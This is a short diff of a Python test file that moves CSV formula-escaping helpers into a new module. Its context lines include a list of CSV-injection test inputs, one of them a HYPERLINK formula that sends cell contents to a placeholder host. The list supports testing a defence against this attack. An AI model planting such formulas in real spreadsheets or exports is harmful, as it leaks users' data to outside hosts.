@@ -12,8 +12,9 @@ import pytest
 from faqsante import editing
 from faqsante.config import Settings
 from faqsante.ingest import ingest_paths
+from faqsante.ingest.csv_cells import escape_formula, unescape_formula
 from faqsante.store import Database
-from faqsante.store.export import escape_formula, render_export, unescape_formula
+from faqsante.store.export import render_export
 
 FORMULAS = ['=HYPERLINK("https://exemple.fr/?d="&A1;"clic")', "+33 1 23", "-1", "@SUM(A1)", "\tx", "\rx"]
 
